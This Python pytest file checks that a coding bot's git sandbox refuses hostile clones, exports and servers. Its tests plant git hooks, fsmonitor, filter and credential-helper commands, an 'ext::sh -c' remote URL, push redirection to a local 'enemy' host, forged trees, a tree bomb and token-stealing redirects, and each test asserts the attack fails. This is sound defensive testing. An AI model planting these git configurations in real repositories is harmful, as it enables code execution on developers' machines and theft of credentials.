"""What a hostile clone, export, server or neighbour tries against the host's git, and gets nothing for."""

from __future__ import annotations

import asyncio
import os
import subprocess
from pathlib import Path

import pytest
from aiohttp import web

from bot.config import SandboxSettings
from bot.sandbox import build
from bot.workspace import GitRefused, TreeRefused
from tests.sandbox_support import GIT_ENV, LOGIN, TOKEN, GitServer, git, processes_with, require_sandbox, state_folder, workspaces

pytestmark = pytest.mark.sandbox
REPO = "acme/rocket"


@pytest.fixture
async def place():
    """(base, server, sandbox, workspaces, base sha) with a clone ready for `s1`."""
    require_sandbox()
    with state_folder() as base:
        server = GitServer(base / "server")
        server.create(REPO, {"README.md": "# rocket\n", "src/a": "1\n"})
        await server.start()
        sandbox = build(SandboxSettings(), state_dir=base)
        ws = workspaces(base, sandbox, server)
        sha = (await ws.fetch("s1", REPO, ["main"]))["main"]
        await ws.clone("s1", sha, "main")
        yield base, server, sandbox, ws, sha
        await sandbox.close()
        await server.stop()


async def publish(ws, sha):
    tree = await ws.export("s1", sha)
    await ws.changes("s1", sha, tree)
    await ws.patch("s1", sha, tree, 100_000)
    policy = await ws.vet("s1", sha, tree, extra_protected=(), allow_protected=False)
    commit = await ws.commit("s1", tree, sha, "work", at_ms=1_700_000_000_000)
    await ws.push("s1", REPO, commit, "dispatch/issue-1", lease=None)
    return tree, policy


async def test_nothing_planted_in_the_clone_runs_on_the_host(place):
    base, _, sandbox, ws, sha = place
    heard = []

    async def hostile(request):
        heard.append(request.path)
        return web.Response(status=401, headers={"WWW-Authenticate": 'Basic realm="x"'})

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", hostile)
    runner = web.AppRunner(app)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    enemy = f"http://127.0.0.1:{runner.addresses[0][1]}"
    markers = base / "markers"
    markers.mkdir()
    markers.chmod(0o777)
    victim = base / "victim"
    victim.mkdir()
    (victim / "README.md").write_text("mine\n")
    evil = f"touch {markers}/ran; #"
    script = f"""
    for h in pre-commit post-commit pre-push post-checkout post-index-change reference-transaction pre-receive update post-update push-to-checkout; do
        printf '#!/bin/sh\\n{evil}\\n' > .git/hooks/$h; chmod +x .git/hooks/$h; done
    mkdir -p hooks; cp .git/hooks/* hooks/
    git config core.hooksPath hooks; git config core.fsmonitor '{evil}'; git config core.sshCommand '{evil}'; git config core.alternateRefsCommand '{evil}'
    git config diff.external '{evil}'; git config diff.x.textconv '{evil}'; git config diff.x.command '{evil}'; git config gpg.program '{evil}'
    git config commit.gpgSign true; git config credential.helper '!{evil}'; git config core.askPass '{evil}'; git config core.pager '{evil}'; git config core.editor '{evil}'
    git config filter.x.clean '{evil}'; git config filter.x.smudge '{evil}'; git config filter.x.process '{evil}'; git config filter.x.required true
    git config url.{enemy}/.insteadOf {place[1].url}/; git config url.{enemy}/.pushInsteadOf {place[1].url}/
    git config remote.origin.pushurl {enemy}/x.git; git config remote.pushDefault origin; git config http.proxy {enemy}; git config protocol.ext.allow always
    git config remote.origin.url 'ext::sh -c "{evil}"'
    git config core.worktree {victim}; git config include.path ../evil.cfg
    printf '* filter=x diff=x\\n' > .git/info/attributes
    mkdir -p sub; git init -q sub/repo; git -C sub/repo config core.fsmonitor '{evil}'
    (cd sub/repo; echo x > x; git -c core.fsmonitor=false add x; git -c core.fsmonitor=false commit -qm x)
    mkdir redirect; echo 'gitdir: ../sub/repo/.git' > redirect/.git
    echo 2 > src/a
    """
    done = await sandbox.run(script, workspace=ws.tree_path("s1"), binds=ws.binds("s1"))
    assert done.ok, done.output
    _, policy = await publish(ws, sha)
    assert {(v.rule, v.path) for v in policy.violations} >= {("submodule", "sub/repo")}
    assert list(markers.iterdir()) == []
    assert heard == []
    assert (victim / "README.md").read_text() == "mine\n"
    await runner.cleanup()


async def test_attributes_with_filters_are_refused_by_policy(place):
    _, _, sandbox, ws, sha = place
    await sandbox.run(
        "printf '* filter=x\\n' > .gitattributes; git config filter.x.clean 'echo owned'; echo y > y", workspace=ws.tree_path("s1")
    )
    tree = await ws.export("s1", sha)
    policy = await ws.vet("s1", sha, tree, extra_protected=(), allow_protected=False)
    assert [(v.rule, v.path) for v in policy.violations] == [("protected", ".gitattributes")]
    assert "+y\n" in await ws.patch("s1", sha, tree, 10_000)


async def test_private_commit_behind_planted_alternates_stays_home(place):
    base, server, sandbox, ws, sha = place
    server.create("acme/private", {"secret.txt": "the plan\n"})
    private = (await ws.fetch("other", "acme/private", ["main"]))["main"]
    script = f"""
    echo {base}/sprints/other/repo.git/objects >> .git/objects/info/alternates
    echo {private} > .git/refs/heads/main; git update-ref HEAD {private} || true
    echo 2 > src/a
    """
    await sandbox.run(script, workspace=ws.tree_path("s1"), binds=ws.binds("s1"))
    tree, _ = await publish(ws, sha)
    bare = server.root / f"{REPO}.git"
    assert git("rev-list", "--count", "dispatch/issue-1", cwd=bare) == "2"
    assert subprocess.run(["git", "cat-file", "-e", private], cwd=bare, env=GIT_ENV, capture_output=True, check=False).returncode != 0
    assert git("ls-tree", "-r", "--name-only", tree, cwd=bare).split() == ["README.md", "src/a"]


async def test_forged_identity_and_history_never_arrive(place):
    _, server, sandbox, ws, sha = place
    await sandbox.run(
        "git -c user.name=boss -c user.email=boss@example.org commit -q --allow-empty -m 'Co-authored-by: boss'; echo 3 > src/a; git commit -qam x",
        workspace=ws.tree_path("s1"),
        binds=ws.binds("s1"),
    )
    await publish(ws, sha)
    shown = git("log", "--format=%an %cn %s", "dispatch/issue-1", cwd=server.root / f"{REPO}.git")
    assert shown == "timmy timmy work\nann ann files"


def _scan_proc(needle: bytes) -> list[str]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            for name in ("cmdline", "environ"):
                try:
                    if needle in (entry / name).read_bytes():
                        found.append(f"{entry.name}/{name}")
                except OSError:
                    continue
    return found


async def test_token_shows_in_no_process_and_on_no_disk_during_a_slow_push(place):
    base, server, _, ws, sha = place
    server.hook(REPO, "sleep 0.6")
    before = len(server.requests)
    pushing = asyncio.ensure_future(publish(ws, sha))
    looks, found, gits = 0, [], 0
    while not pushing.done():
        found += await asyncio.to_thread(_scan_proc, TOKEN.encode())
        gits += len(processes_with("remote-http"))
        looks += 1
        await asyncio.sleep(0.01)
    await pushing
    assert looks > 10
    assert gits > 0
    assert found == []
    assert len(server.requests) > before
    assert subprocess.run(["grep", "-rlF", TOKEN, str(base)], capture_output=True, check=False).stdout == b""


@pytest.mark.parametrize("status", [301, 302, 307, 308])
async def test_redirects_are_not_followed_with_the_token(place, status):
    _, server, _, ws, sha = place
    heard = []

    async def hostile(request):
        heard.append(dict(request.headers))
        return web.Response(status=401, headers={"WWW-Authenticate": 'Basic realm="x"'})

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", hostile)
    runner = web.AppRunner(app)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    enemy = f"http://127.0.0.1:{runner.addresses[0][1]}"
    for only in ("", "/git-upload-pack", "/git-receive-pack"):
        server.answer = web.Response(status=status, headers={"Location": f"{enemy}/x.git/info/refs?service=git-upload-pack"})
        server.answer_only = only
        with pytest.raises(GitRefused):
            await ws.fetch("s2", REPO, ["main"])
            await ws.push("s1", REPO, sha, "dispatch/issue-7", lease=None)
    await runner.cleanup()
    assert heard == []


async def test_askpass_answers_the_configured_host_only(place):
    base, server, *_ = place
    script = base / "sprints/.askpass"
    assert script.stat().st_mode & 0o777 == 0o500
    assert TOKEN not in script.read_text()
    host = server.url.removeprefix("http://")
    environment = {
        "PATH": "/usr/bin:/bin",
        "DISPATCH_USERNAME_PROMPT": f"Username for 'http://{host}': ",
        "DISPATCH_PASSWORD_PROMPT": f"Password for 'http://{LOGIN}@{host}': ",
        "DISPATCH_LOGIN": LOGIN,
        "DISPATCH_TOKEN_FD": "0",
    }

    def ask(prompt):
        return subprocess.run([str(script), prompt], env=environment, stdin=subprocess.DEVNULL, capture_output=True, check=False)

    assert ask(f"Username for 'http://{host}': ").stdout == f"{LOGIN}\n".encode()
    assert ask(f"Password for 'http://{LOGIN}@{host}': ").returncode == 0
    for prompt in (
        f"Password for 'http://{LOGIN}@evil.example': ",
        f"Password for 'https://{LOGIN}@{host}': ",
        f"Password for 'http://{LOGIN}@{host}.evil': ",
        "",
        "*",
    ):
        asked = ask(prompt)
        assert (asked.returncode, asked.stdout) == (1, b"")


def _raw_tree(*entries: tuple[str, str, str]) -> bytes:
    return b"".join(f"{mode} {name}".encode() + b"\0" + bytes.fromhex(object_id) for mode, name, object_id in entries)


async def test_forged_exports_are_refused(place):
    base, _, _, ws, sha = place
    bare = base / "sprints/s1/repo.git"
    forge = base / "forge"
    forge.mkdir()
    git("init", "-q", ".", cwd=forge)
    blob = git("hash-object", "-w", "--stdin", cwd=forge, stdin=b"x\n")

    def tree_of(*entries):
        return git("hash-object", "-t", "tree", "--literally", "-w", "--stdin", cwd=forge, stdin=_raw_tree(*entries))

    def pack_of(*objects):
        done = subprocess.run(
            ["git", "pack-objects", "-q", "--stdout"],
            cwd=forge,
            env=GIT_ENV,
            input="".join(f"{o}\n" for o in objects).encode(),
            capture_output=True,
            check=True,
        )
        return done.stdout

    inner = tree_of(("100644", "config", blob))
    good = tree_of(("100644", "fine", blob))
    missing = "1234" * 10
    dotgit, dotdot, short, lost = (
        tree_of(("40000", ".git", inner)),
        tree_of(("40000", "..", inner)),
        tree_of(("40000", "GIT~1", inner)),
        tree_of(("100644", "gone", missing)),
    )
    empty_pack = pack_of()
    out = ws._make_owned("s1", "out")

    async def refused(name: str, tree: str, pack) -> None:
        for file in out.iterdir():
            file.unlink()
        (out / "tree").write_text(tree + "\n")
        if callable(pack):
            pack(out / "pack")
        else:
            (out / "pack").write_bytes(pack)
        with pytest.raises(TreeRefused):
            await asyncio.wait_for(ws.receive("s1", sha), 20)
        assert git("fsck", "--strict", "--no-dangling", cwd=bare) == "", name

    (base / "elsewhere").write_bytes(pack_of(good, blob))
    await refused("dot git", dotgit, pack_of(dotgit, inner, blob))
    await refused("dot dot", dotdot, pack_of(dotdot, inner, blob))
    await refused("short name", short, pack_of(short, inner, blob))
    await refused("missing blob", lost, pack_of(lost))
    await refused("garbage", good, b"PACK" + os.urandom(2000))
    await refused("link", good, lambda p: p.symlink_to(base / "elsewhere"))
    await refused("hard link", good, lambda p: p.hardlink_to(base / "elsewhere"))
    await refused("pipe", good, os.mkfifo)
    await refused("folder", good, lambda p: p.symlink_to("/proc/self/environ"))
    await refused("option", "--output=/tmp/x", pack_of(good, blob))
    await refused("not in the pack", good, empty_pack)
    await refused("a blob", blob, pack_of(blob))
    await refused("too large", good, lambda p: (p.touch(), os.truncate(p, 65 * 1024**2)))
    (out / "pack").unlink()
    (out / "pack").write_bytes(pack_of(good, blob))
    (out / "tree").write_text(good)
    assert await ws.receive("s1", sha) == good


async def test_tree_bomb_does_not_hang_the_host(place):
    base, _, _, ws, sha = place
    forge = base / "forge"
    forge.mkdir()
    git("init", "-q", ".", cwd=forge)
    below = git("hash-object", "-w", "--stdin", cwd=forge, stdin=b"boom\n")
    mode, objects = "100644", [below]
    for _ in range(10):
        entries = _raw_tree(*((mode, f"d{i}", below) for i in range(10)))
        below = git("hash-object", "-t", "tree", "-w", "--stdin", cwd=forge, stdin=entries)
        mode = "40000"
        objects.append(below)
    pack = subprocess.run(
        ["git", "pack-objects", "-q", "--stdout"],
        cwd=forge,
        env=GIT_ENV,
        input="".join(f"{o}\n" for o in objects).encode(),
        capture_output=True,
        check=True,
    ).stdout
    out = ws._make_owned("s1", "out")
    (out / "tree").write_text(below)
    (out / "pack").write_bytes(pack)
    with pytest.raises(TreeRefused, match="more files"):
        await asyncio.wait_for(ws.receive("s1", sha), 20)


async def test_sprints_do_not_see_each_other(place):
    base, _, sandbox, ws, sha = place
    await sandbox.run(
        "echo canary > /tmp/left; echo canary > ~/left; echo canary > left; (setsid sleep 60 &)", workspace=ws.tree_path("s1")
    )
    await ws.fetch("s2", REPO, ["main"])
    await ws.clone("s2", sha, "main")
    seen = await sandbox.run(
        f"grep -rl canary /tmp ~ . /run /dev/shm; ls {base} /work 2>&1; ps ax 2>/dev/null | grep -c sleep", workspace=ws.tree_path("s2")
    )
    assert "left" not in seen.output
    assert "sprints" not in seen.output
